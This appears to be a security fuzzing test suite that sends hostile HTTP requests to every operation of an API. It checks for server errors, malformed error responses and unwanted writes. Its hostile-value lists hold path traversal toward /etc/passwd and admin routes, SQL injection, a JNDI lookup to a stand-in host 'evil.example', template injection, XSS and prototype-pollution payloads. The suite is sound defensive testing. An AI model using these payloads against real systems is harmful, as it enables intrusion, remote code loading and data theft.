/**
 * Security suite, fuzzing: every operation of the OpenAPI document, called over HTTP with
 * fast-check's hostile requests (wrong types, missing and extra fields, huge and unicode strings,
 * prototype-pollution keys, traversal and injection ids, bad query values, wrong content types,
 * empty and non-JSON bodies). Never a 5xx; every 4xx is problem+json with a code and requestId;
 * and a refused request changes nothing: the tenant's items in the Resources, Outbox and Audit
 * tables are the same before and after it (a GET's runs, which may write nothing at all, are
 * checked once over all of them; a request DynamoDB accepted no write for is not snapshotted, and a
 * snapshot after each operation's last run proves no change went unseen). Operations are read from the document, so new ones
 * are fuzzed as they are declared. Seeds are fixed per operation: a run is reproducible.
 */
import fc from 'fast-check';
import * as z from 'zod';
import type { AnyOperation } from '../../functions/kit/operation';
import { manifest } from '../../functions/manifest';
import { buildOpenApiDocument } from '../../functions/openapi';
import type { Platform } from '../../lib/local/runtime';
import { client, ownerOfProvisionedTenant, startTestPlatform, tokenFor } from '../support/platform';
import { buildWorld, hasPathParams, isAdmin, pathPrefix, requestRecipes, resourceRecipes, type World } from '../support/recipes';
import { tenantSnapshot, watchWrites, type WriteWatch } from '../support/snapshot';

/** FUZZ_RUNS=500 for a longer hunt; CI keeps the default. */
const NUM_RUNS = Number(process.env.FUZZ_RUNS ?? 25);
const BASE_SEED = Number(process.env.FUZZ_SEED ?? 20261122);

let platform: Platform;
let call: ReturnType<typeof client>;
let world: World;
let victimTenantId: string;
let adminToken: string;
let writes: WriteWatch;

beforeAll(async () => {
  // No relay and no jobs: nothing but the fuzzed request writes to the tenant while it is watched.
  platform = await startTestPlatform('sec-fuzz', { relay: false, scheduler: false });
  call = client(platform.url);
  const [owner, victim] = await Promise.all([ownerOfProvisionedTenant(platform), ownerOfProvisionedTenant(platform)]);
  world = await buildWorld(call, owner.token, owner.tenantId, 30);
  victimTenantId = victim.tenantId;
  adminToken = await tokenFor(platform, ['platform-admin']);
  writes = watchWrites();
}, 60000);
afterAll(() => platform.stop());

/** The document's operations, joined to their declarations (the schemas the fuzzer mutates). */
const document = buildOpenApiDocument() as { paths: Record<string, Record<string, { operationId: string }>> };
const declared = new Map(manifest.operations.map((op) => [op.operationId, op]));
const documented: AnyOperation[] = Object.values(document.paths).flatMap((methods) =>
  Object.values(methods).map((entry) => {
    const op = declared.get(entry.operationId);
    if (!op) throw new Error(`${entry.operationId} is in the document but not in the manifest`);
    return op;
  }),
);
// Deletes last, so the other operations meet the world's resources still there.
const ordered = [...documented.filter((op) => op.method !== 'DELETE'), ...documented.filter((op) => op.method === 'DELETE')];

function seedOf(operationId: string): number {
  let hash = BASE_SEED;
  for (const char of operationId) hash = (Math.imul(hash, 31) + char.charCodeAt(0)) | 0;
  return hash;
}

// ---- hostile values ------------------------------------------------------------------------

const HUGE = 'A'.repeat(100 * 1024);
const evilStrings = [
  '../',
  '../../etc/passwd',
  '..%2f..%2fadmin',
  '%2e%2e%2f',
  '%2e%2e%2f%2e%2e%2fv1%2fadmin%2ftenants',
  "' OR 1=1 --",
  '" OR ""="',
  '${jndi:ldap://evil.example/a}',
  '${7*7}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'a\u0000b',
  '%00',
  '\u0000',
  '__proto__',
  'constructor',
  'prototype',
  'T#',
  '#',
  'tnt-00000000000000000000000000',
  ' ',
  '',
  '\u202e\u0301\ud83d\ude00',
  'ｖｐｃ－１',
  '-1',
  '1e309',
  'NaN',
  'null',
  'x'.repeat(5000),
];
/** Ids put into the URL as they are (traversal the URL parser may or may not resolve). */
const rawIds = ['..', '../..', '..%2f..', '%2e%2e%2f', '%2e%2e', '.%00.', '%00', '%ff%fe', '%', '%%', 'a%2fb', '%2F', '?x=1', '%3F', '%23'];

/** Hostile strings; `HUGE` (100 KB) only in bodies, since a URL that long stops at the HTTP parser. */
const hostile = (huge: boolean) =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...evilStrings) },
    { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.constant(huge ? HUGE : 'y'.repeat(12000)) },
  );
const evilString = hostile(true);
const urlString = hostile(false);
const wrongType = fc.oneof(
  evilString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom(-1, 0, 2 ** 53, 1e308, -0),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
  fc.jsonValue({ maxDepth: 3 }),
  fc.constant({ __proto__: { polluted: true } }),
);
const pollutionKey = fc.constantFrom('__proto__', 'constructor', 'prototype');

/** A path parameter: a real id of the watched tenant, an evil one (encoded), or one left raw in the URL. */
function pathValue(real: string | undefined): fc.Arbitrary<{ value: string; raw: boolean }> {
  const encoded = urlString.map((value) => ({ value, raw: false }));
  const raw = fc.constantFrom(...rawIds).map((value) => ({ value, raw: true }));
  return real ? fc.oneof(fc.constant({ value: real, raw: false }), encoded, raw) : fc.oneof(encoded, raw);
}

function keysOf(schema: z.core.$ZodType | undefined): string[] {
  return schema instanceof z.core.$ZodObject ? Object.keys(schema._zod.def.shape) : [];
}

/** A JSON text for the body: the valid one mutated, wrong types, extra and pollution keys, or not JSON at all. */
function bodyText(op: AnyOperation, valid: Record<string, unknown>): fc.Arbitrary<string | undefined> {
  const fields = [...new Set([...keysOf(op.body), ...Object.keys(valid)])];
  const field = fields.length ? fc.constantFrom(...fields) : fc.constant('name');
  const mutated = fc
    .record({
      drop: fc.subarray(Object.keys(valid)),
      wrong: fc.dictionary(field, wrongType, { maxKeys: 3 }),
      extra: fc.dictionary(fc.oneof(fc.string({ maxLength: 12 }), pollutionKey), wrongType, { maxKeys: 2 }),
    })
    .map(({ drop, wrong, extra }) => {
      const body: Record<string, unknown> = { ...valid };
      for (const key of drop) delete body[key];
      Object.assign(body, wrong);
      // Own keys named __proto__ & co. survive only through JSON text: write them in by hand.
      const text = JSON.stringify(body);
      const extras = Object.entries(extra).map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v) ?? 'null'}`);
      return extras.length ? `{${extras.join(',')}${text.length > 2 ? `,${text.slice(1)}` : '}'}` : text;
    });
  const pollution = fc.constantFrom(
    '{"__proto__":{"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}}}',
    `{"tags":{"__proto__":{"polluted":true}},"name":"x"}`,
    `{"tags":{"constructor":"x","prototype":"y","__proto__":"z"}}`,
  );
  const notJson = fc.constantFrom('', '{', 'not json', '{"a":', 'null', '[]', '"text"', '123', 'true', '\u0000', `{"a":"${HUGE}"}`, '[' + '['.repeat(5000));
  return fc.oneof(
    { weight: 5, arbitrary: mutated },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)) },
    { weight: 1, arbitrary: pollution },
    { weight: 2, arbitrary: notJson },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}

function queryArb(op: AnyOperation, valid: Record<string, string>): fc.Arbitrary<string> {
  const keys = [...new Set([...keysOf(op.query), 'limit', 'cursor', ...Object.keys(valid)])];
  const value = fc.oneof(urlString, fc.constantFrom('0', '-1', '101', '1.5', 'abc', '1e3', '99999999999999999999', 'true', '%', '%zz'));
  return fc
    .record({
      keep: fc.boolean(),
      extra: fc.dictionary(fc.oneof(fc.constantFrom(...keys), pollutionKey, fc.string({ maxLength: 8 })), value, { maxKeys: 3 }),
      repeat: fc.boolean(),
    })
    .map(({ keep, extra, repeat }) => {
      const params = new URLSearchParams(keep ? valid : {});
      for (const [k, v] of Object.entries(extra)) (repeat ? params.append(k, v) : params.set(k, v));
      if (repeat && keys[0]) params.append(keys[0], 'again');
      const text = params.toString();
      return text ? `?${text}` : '';
    });
}

const contentType = fc.constantFrom<string | undefined>(
  'application/json',
  'application/json',
  'application/json; charset=utf-8',
  undefined,
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/problem+json',
  'application/jsonx',
  'APPLICATION/JSON',
  '',
);
const idempotencyKey = fc.constantFrom<string | undefined>(undefined, undefined, 'k-1', '', ' ', 'x'.repeat(300), '\t', 'a b');
const ifMatch = fc.constantFrom<string | undefined>(undefined, undefined, '"1"', '*', '"999"', 'W/"1"', 'garbage', '""');

interface Fuzzed {
  path: string;
  query: string;
  body: string | undefined;
  contentType: string | undefined;
  idempotencyKey: string | undefined;
  ifMatch: string | undefined;
}

type Focus = 'path' | 'query' | 'body' | 'headers' | 'everything';
const FOCI: Focus[] = ['path', 'query', 'body', 'body', 'headers', 'everything'];

/**
 * A request that is valid but for its focus (a path parameter, the query, the body, the headers),
 * or hostile all over: one bad part at a time reaches deeper than a request the first check stops.
 */
function requestArb(op: AnyOperation, realParams: Record<string, string>, recipe: { body?: unknown; query?: Record<string, string> }): fc.Arbitrary<Fuzzed> {
  const names = [...op.path.matchAll(/\{([A-Za-z0-9_]+)\}/g)].map((m) => m[1] as string);
  const params = fc.tuple(...names.map((name) => pathValue(realParams[name])));
  const valid = (recipe.body ?? {}) as Record<string, unknown>;
  const validQuery = recipe.query && Object.keys(recipe.query).length ? `?${new URLSearchParams(recipe.query).toString()}` : '';
  const foci = FOCI.filter((focus) => (focus !== 'path' || names.length > 0) && (focus !== 'body' || op.method !== 'GET'));
  return fc
    .record({
      focus: fc.constantFrom(...foci),
      params,
      query: queryArb(op, recipe.query ?? {}),
      body: bodyText(op, valid),
      contentType,
      idempotencyKey,
      ifMatch,
    })
    .map(({ focus, params: values, query, body, contentType: type, idempotencyKey: key, ifMatch: match }) => {
      const all = focus === 'everything';
      let i = 0;
      const path = op.path.replace(/\{[A-Za-z0-9_]+\}/g, (_m) => {
        const param = values[i++]!;
        const name = names[i - 1]!;
        if (!all && focus !== 'path' && realParams[name]) return encodeURIComponent(realParams[name]);
        return param.raw ? param.value : encodeURIComponent(param.value);
      });
      const validBody = op.body ? JSON.stringify(valid) : undefined;
      return {
        path,
        query: all || focus === 'query' ? query : validQuery,
        body: all || focus === 'body' ? body : validBody,
        contentType: all || focus === 'headers' ? type : op.body ? 'application/json' : undefined,
        idempotencyKey: all || focus === 'headers' ? key : undefined,
        ifMatch: all || focus === 'headers' ? match : undefined,
      };
    });
}

function describeRequest(op: AnyOperation, r: Fuzzed): string {
  const body = r.body && r.body.length > 300 ? `${r.body.slice(0, 300)}… (${r.body.length} chars)` : r.body;
  const path = r.path.length > 300 ? `${r.path.slice(0, 300)}…` : r.path;
  return `${op.method} ${path}${r.query.slice(0, 300)} content-type=${r.contentType} key=${r.idempotencyKey} if-match=${r.ifMatch} body=${body}`;
}

// ---- the property ----------------------------------------------------------------------------

it('fuzzes every operation of the document, watching a tenant whose tables hold something', async () => {
  expect(documented.length).toBe(manifest.operations.length);
  const snapshot = await tenantSnapshot(world.tenantId);
  expect(Object.values(snapshot).map((items) => items.length > 0)).toEqual([true, true, true]);
});

describe('paths outside the document', () => {
  it.each([
    '/v1/../v1/admin/tenants',
    '/v1/vpcs/..%2f..%2fadmin%2ftenants',
    '/v1/vpcs/%2e%2e/%2e%2e/admin/tenants',
    '/v1/%2e%2e/%2e%2e/etc/passwd',
    '/v1/vpcs%00',
    '/v1/admin%2ftenants',
    '/v1//vpcs',
    '/v1/vpcs/x/y/z',
    '/V1/VPCS',
    `/v1/${'z'.repeat(12000)}`,
    `/v1/${'z'.repeat(20000)}`, // over node:http's 16 KB header limit: refused before any handler (431)
  ])('%s: 4xx problem+json for a tenant owner, never an admin route', async (path) => {
    const response = await call('GET', path, { token: world.token });
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(response.status).toBeLessThan(500);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    expect(typeof response.body.requestId).toBe('string');
  });

  it.each(['PUT', 'PATCH', 'DELETE', 'POST'])('%s on a read-only collection is 4xx problem+json and changes nothing', async (method) => {
    const before = await tenantSnapshot(world.tenantId);
    const response = await call(method, '/v1/regions', { token: world.token, body: {} });
    expect([response.status < 500 && response.status >= 400, response.headers.get('content-type')]).toEqual([true, 'application/problem+json']);
    expect(await tenantSnapshot(world.tenantId)).toEqual(before);
  });
});

describe.each(ordered.map((op) => [`${op.method} ${op.path}`, op] as const))('%s', (_route, op) => {
  it(`never answers 5xx, answers every 4xx as problem+json, and changes nothing it refuses (${NUM_RUNS} runs)`, async () => {
    const admin = isAdmin(op);
    const subject = admin ? victimTenantId : world.tenantId;
    const realParams = admin ? { id: victimTenantId } : hasPathParams(op) ? (resourceRecipes[pathPrefix(op.path)]?.(world) ?? {}) : {};
    const recipe = requestRecipes[op.operationId]?.(world) ?? {};
    const token = admin ? adminToken : world.token;
    const readOnly = op.method === 'GET';
    let before = await tenantSnapshot(subject);
    const statuses: Record<number, number> = {};

    await fc.assert(
      fc.asyncProperty(requestArb(op, realParams, recipe), async (request) => {
        const headers: Record<string, string> = {};
        if (request.contentType !== undefined) headers['content-type'] = request.contentType;
        if (request.idempotencyKey !== undefined) headers['idempotency-key'] = request.idempotencyKey;
        if (request.ifMatch !== undefined) headers['if-match'] = request.ifMatch;
        // GET and HEAD cannot carry a body in fetch: they get the rest of the fuzz.
        const rawBody = op.method === 'GET' ? undefined : request.body;
        const writesBefore = writes.accepted;
        const response = await call(op.method, request.path + request.query, { token, headers, ...(rawBody !== undefined ? { rawBody } : {}) });
        const what = describeRequest(op, request);
        statuses[response.status] = (statuses[response.status] ?? 0) + 1;

        if (response.status >= 500) throw new Error(`${response.status} for ${what}: ${JSON.stringify(response.body)}`);
        if (response.status >= 400) {
          const type = response.headers.get('content-type');
          const problem = response.body as { code?: unknown; requestId?: unknown } | undefined;
          if (type !== 'application/problem+json' || typeof problem?.code !== 'string' || typeof problem?.requestId !== 'string') {
            throw new Error(`${response.status} ${type} without code and requestId for ${what}: ${JSON.stringify(response.body)}`);
          }
        }
        if (({} as Record<string, unknown>).polluted !== undefined) throw new Error(`Object.prototype was polluted by ${what}`);

        // A read writes nothing, answered or refused: its runs are checked together, after the last one.
        if (readOnly) return;
        // No write accepted, nothing changed: the snapshot is taken only when one was (the check after the
        // last run proves the watch saw every change).
        if (writes.accepted === writesBefore) return;
        const after = await tenantSnapshot(subject);
        if (response.status >= 400) {
          try {
            expect(after).toEqual(before);
          } catch (error) {
            throw new Error(`${response.status} ${(response.body as { code?: string }).code} changed the tenant's data: ${what}\n${(error as Error).message}`);
          }
        }
        before = after;
      }),
      { numRuns: NUM_RUNS, seed: seedOf(op.operationId), endOnFailure: true },
    );
    // After the last run: the tenant's items are what the last snapshot saw (for reads: before them all).
    // A difference here is a change no accepted write accounted for, which the skipped snapshots rely on.
    expect(await tenantSnapshot(subject)).toEqual(before);
    if (process.env.FUZZ_STATS) process.stdout.write(`${op.operationId} ${JSON.stringify(statuses)}\n`);
  });
});
